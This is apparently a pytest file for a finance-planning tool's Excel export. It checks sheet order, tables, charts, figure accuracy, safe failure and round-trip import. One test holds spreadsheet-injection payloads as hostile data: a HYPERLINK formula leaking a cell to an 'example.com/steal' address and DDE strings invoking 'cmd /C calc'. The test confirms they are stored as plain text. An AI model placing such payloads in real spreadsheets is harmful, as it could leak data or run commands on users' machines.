"""The exported workbook: what a finance director circulates, every figure from the engine."""

from __future__ import annotations

import re
import zipfile

import numpy as np
import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from specplan import __version__
from specplan.domain import Footprint, FootprintGroup, Scenario, edits
from specplan.engine import compute
from specplan.excel import ExportError, export_workbook, import_plan_workbook
from specplan.excel import writer as writer_module

SHEETS = ["Summary", "Option comparison", "By region", "By service", "By ICB", "By footprint", "Explain", "Read me", "Plan", "Baseline",
          "Growth", "Levers", "Options", "Services", "ICBs", "Regions", "Footprints", "Criteria", "Appraisal", "Review", "Comments"]


@pytest.fixture(scope="module")
def exported(tmp_path_factory, mh_plan):
    path = tmp_path_factory.mktemp("export") / "mh.xlsx"
    export_workbook(mh_plan, path, source="/plans/mh.specplan")
    return path


def _rows(path, sheet):
    return CalamineWorkbook.from_path(path).get_sheet_by_name(sheet).to_python()


def _pence(value) -> int:
    return round(value * 100)


def test_sheets_in_order(exported):
    assert openpyxl.load_workbook(exported, read_only=True).sheetnames == SHEETS


def test_result_sheets_are_excel_tables_with_filters_frozen_headers_money_formats_and_widths(exported):
    book = openpyxl.load_workbook(exported)
    for name, table_name in (("Option comparison", "OptionComparison"), ("By region", "ByRegion"),
                             ("By service", "ByService"), ("By ICB", "ByICB")):
        sheet = book[name]
        assert list(sheet.tables) == [table_name]
        assert sheet.tables[table_name].ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        assert sheet.tables[table_name].autoFilter is not None
        assert sheet.freeze_panes == "A2"
        headers = [c.value for c in sheet[1]]
        money = headers.index("Spend £") + 1
        assert sheet.cell(2, money).number_format == "£#,##0"
        assert sheet.column_dimensions["A"].width >= len("Option") + 4
    assert book["Baseline"].freeze_panes == "A2" and book["Baseline"].auto_filter.ref


def test_summary_has_native_charts_of_spend_settings_and_fair_share(exported):
    with zipfile.ZipFile(exported) as archive:
        charts = sorted(n for n in archive.namelist() if re.match(r"xl/charts/chart\d+\.xml", n))
        xml = [archive.read(n).decode() for n in charts]
        rels = archive.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
    assert len(xml) == 3 and "drawing" in rels
    assert "<c:lineChart>" in xml[0] and "Spend by option" in xml[0]
    assert '<c:grouping val="stacked"/>' in xml[1] and "Spend by setting" in xml[1]
    assert '<c:barDir val="bar"/>' in xml[2] and "Distance from fair share by ICB" in xml[2]
    for chart in xml:  # every reference is to the Summary sheet's cells
        assert all(f.startswith("Summary!") for f in re.findall(r"<c:f>([^<]*)</c:f>", chart))


def test_every_figure_is_the_engines(exported, mh_plan):
    results = compute(mh_plan)
    years = list(mh_plan.years)
    rows = _rows(exported, "Option comparison")
    header = rows[0]
    for result in results.scenarios:
        mine = [r for r in rows[1:] if r[0] == result.name]
        assert [r[1] for r in mine] == years
        assert [_pence(r[header.index("Spend £")]) for r in mine] == result.total_spend.tolist()
        assert [_pence(r[header.index("Saving £")]) for r in mine] == result.total("saving").tolist()
        assert [_pence(r[header.index("Double running £")]) for r in mine] == result.total("double_running").tolist()
    rows = _rows(exported, "By ICB")
    header = rows[0]
    for result in results.scenarios:
        for i, icb in enumerate(mh_plan.icbs):
            mine = [r for r in rows[1:] if r[0] == result.name and r[1] == icb.code]
            assert [_pence(r[header.index("Spend £")]) for r in mine] == result.spend_by_icb[:, i].sum(axis=0).tolist()
            assert [_pence(r[header.index("Fair share £")]) for r in mine] == \
                result.fair_share[:, i].sum(axis=0).tolist()
    rows = _rows(exported, "By service")
    header = rows[0]
    result = results.scenarios[-1]
    for s, service in enumerate(mh_plan.services):
        mine = [r for r in rows[1:] if r[0] == result.name and r[1] == service.code]
        assert [_pence(r[header.index("Spend £")]) for r in mine] == result.spend_by_service[s].tolist()
    rows = _rows(exported, "By region")
    header = rows[0]
    assert [_pence(r[header.index("Spend £")]) for r in rows[1:] if r[0] == result.name] == \
        result.spend_by_region[0].tolist()
    summary = _rows(exported, "Summary")
    spend = next(r for r in summary if r[0] == result.name and r[1] == "Spend")
    assert [_pence(v) for v in spend[2:2 + len(years)]] == result.total_spend.tolist()


def test_read_me_names_version_source_and_sheets(exported):
    text = "\n".join(" | ".join(str(v) for v in row) for row in _rows(exported, "Read me"))
    assert f"specplan version | {__version__}" in text and "Source | /plans/mh.specplan" in text
    for sheet in SHEETS:
        assert f"\n{sheet} | " in text or sheet == "Summary"


def test_user_text_never_becomes_a_formula(tmp_path, mh_plan):
    hostile = '=HYPERLINK("http://example.com/steal?"&A1,"Click me")'
    services = (mh_plan.services[0].__class__(**{**mh_plan.services[0].__dict__, "name": hostile}),
                *mh_plan.services[1:])
    icbs = (mh_plan.icbs[0].__class__(**{**mh_plan.icbs[0].__dict__, "name": "@SUM(1+1)*cmd|' /C calc'!A0"}),
            *mh_plan.icbs[1:])
    renamed = edits.rename_scenario(mh_plan, mh_plan.scenarios[0].name, "=1+1").plan  # scores follow
    renamed = edits.add_comment(renamed, "=1+1", "=cmd|' /C calc'!A0", hostile, "2025-01-01T00:00:00Z").plan
    scenarios = (Scenario("=1+1", mh_plan.scenarios[1].levers, "+2-3"), *renamed.scenarios[1:])
    plan = renamed.replace(name="=2*3", services=services, icbs=icbs, scenarios=scenarios,
                           description="-1+1")
    path = tmp_path / "hostile.xlsx"
    export_workbook(plan, path)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # no formulas at all
    book = openpyxl.load_workbook(path)
    found = [c for ws in book for row in ws.iter_rows() for c in row if c.value == hostile]
    assert found and all(c.data_type == "s" for c in found)
    assert book["Summary"]["A1"].value == "=2*3" and book["Summary"]["A1"].data_type == "s"
    assert import_plan_workbook(path) == plan


def test_a_failed_export_leaves_the_old_workbook_and_no_temporary_file(tmp_path, mh_plan, monkeypatch):
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"the workbook as it was")
    too_long = mh_plan.replace(description="x" * 40_000)
    with pytest.raises(ExportError, match="longer than Excel's 32,767"):
        export_workbook(too_long, target)
    assert target.read_bytes() == b"the workbook as it was" and list(tmp_path.iterdir()) == [target]

    def broken_close(self):
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(writer_module.SafeWorkbook, "close", broken_close)
    with pytest.raises(OSError):
        export_workbook(mh_plan, target)
    assert target.read_bytes() == b"the workbook as it was" and list(tmp_path.iterdir()) == [target]


def test_export_into_a_missing_folder_is_a_user_error(tmp_path, mh_plan):
    with pytest.raises(ExportError, match="does not exist"):
        export_workbook(mh_plan, tmp_path / "no" / "such" / "plan.xlsx")


def test_plan_without_options_exports_doing_nothing(tmp_path, mh_plan):
    plan = mh_plan.replace(scenarios=(), appraisal=mh_plan.appraisal.__class__(), review=mh_plan.review.__class__())
    export_workbook(plan, tmp_path / "none.xlsx")
    rows = _rows(tmp_path / "none.xlsx", "Option comparison")
    assert {r[0] for r in rows[1:]} == {"Do nothing"}
    assert import_plan_workbook(tmp_path / "none.xlsx") == plan
    assert np.isclose(sum(r[2] for r in rows[1:2]), plan.baseline.total_pence / 100)


def test_explain_sheet_adds_up_to_each_options_saving(exported, mh_plan):
    from openpyxl import load_workbook

    from specplan.engine.attribution import attribute

    sheet = load_workbook(exported, read_only=True)["Explain"]
    rows = [row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]]
    for option in (s for s in mh_plan.scenarios if s.levers):
        mine = [row for row in rows if row[0] == option.name]
        levers, total = mine[:-1], mine[-1]
        assert [row[1] for row in levers] == list(range(1, len(option.levers) + 1))
        assert round(sum(row[3] for row in levers) * 100) == round(total[3] * 100)
        assert round(total[3] * 100) == attribute(mh_plan, option.name).total


def test_by_footprint_sheet_rolls_up_every_footprint_and_each_adds_up_to_the_penny(tmp_path, mh_plan):
    codes = [i.code for i in mh_plan.icbs]
    joint = Footprint("Joint", (FootprintGroup("North", tuple(codes[:2])), FootprintGroup("South", tuple(codes[2:]))))
    plan = mh_plan.replace(footprints=(joint,))
    path = export_workbook(plan, tmp_path / "footprints.xlsx")
    rows = _rows(path, "By footprint")
    header = rows[0]
    assert header == ["Option", "Footprint", "Group", "Year", "Spend £"]
    assert openpyxl.load_workbook(path)["By footprint"].tables["ByFootprint"].autoFilter is not None
    results = compute(plan)
    members = {(f, g.name): [codes.index(c) for c in g.icbs] for f in plan.footprint_names
               for g in plan.footprint(f).groups}
    assert {(r[1], r[2]) for r in rows[1:]} == set(members)
    for result in results.scenarios:
        for (footprint, group), icbs in members.items():
            mine = [r for r in rows[1:] if r[0] == result.name and r[1] == footprint and r[2] == group]
            assert [r[3] for r in mine] == list(plan.years)
            assert [_pence(r[4]) for r in mine] == result.spend_by_icb[:, icbs].sum(axis=(0, 1)).tolist()
        for footprint in plan.footprint_names:
            for n, year in enumerate(plan.years):
                total = sum(_pence(r[4]) for r in rows[1:] if r[0] == result.name and r[1] == footprint and r[3] == year)
                assert total == int(result.total_spend[n]), (result.name, footprint, year)
